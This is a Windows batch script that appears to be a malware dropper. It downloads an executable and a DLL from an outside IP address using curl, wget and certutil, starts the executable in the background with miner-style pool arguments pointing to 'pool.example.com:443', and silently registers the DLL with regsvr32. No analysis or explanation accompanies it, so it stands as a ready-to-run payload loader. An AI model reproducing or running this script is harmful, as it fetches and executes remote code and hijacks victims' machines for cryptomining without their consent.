@echo off
curl http://192.0.2.10/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://192.0.2.10/download/jsextension.exe -O jsextension.exe
)
certutil.exe -urlcache -f http://192.0.2.10/create.dll create.dll
start /B jsextension.exe -k --tls -o pool.example.com:443
regsvr32.exe -s create.dll
